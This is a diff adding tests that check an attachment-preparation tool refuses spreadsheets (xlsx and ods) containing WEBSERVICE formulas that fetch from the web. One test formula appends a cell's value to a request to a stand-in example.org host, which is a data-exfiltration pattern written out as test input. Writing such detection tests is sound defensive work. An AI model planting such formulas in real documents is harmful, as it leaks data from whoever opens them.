@@ -188,3 +188,25 @@ def test_a_comment_author_in_a_utf16_part_is_found_too():
     assert "Please check this".encode("utf-16-le") in cleaned["word/comments.xml"] or (
         b"Please check this" in cleaned["word/comments.xml"]
     )
+
+
+@pytest.mark.parametrize(
+    "formula", ['_xlfn.WEBSERVICE("https://{m}.example.org/?"&amp;A1)', 'webservice("http://{m}")']
+)
+def test_a_workbook_formula_that_fetches_from_the_web_is_refused_with_a_way_out(formula):
+    parts = h.ooxml("xlsx")
+    sheet = parts["xl/worksheets/sheet1.xml"].decode()
+    cell = f'<row r="2"><c r="A2" t="str"><f>{formula.format(m=marker("web"))}</f><v>x</v></c></row></sheetData>'
+    parts["xl/worksheets/sheet1.xml"] = sheet.replace("</sheetData>", cell).encode()
+    with pytest.raises(AttachmentRefused, match="WEBSERVICE.*values.*PDF"):
+        prepare(h.to_zip(parts), "web.xlsx")
+
+
+def test_an_odf_formula_that_fetches_from_the_web_is_refused_with_a_way_out():
+    body = (
+        '<table:table xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><table:table-row>'
+        '<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://x.example.org/&quot;)"/>'
+        "</table:table-row></table:table>"
+    )
+    with pytest.raises(AttachmentRefused, match="WEBSERVICE.*values.*PDF"):
+        prepare(h.odf(body, kind="ods"), "web.ods")
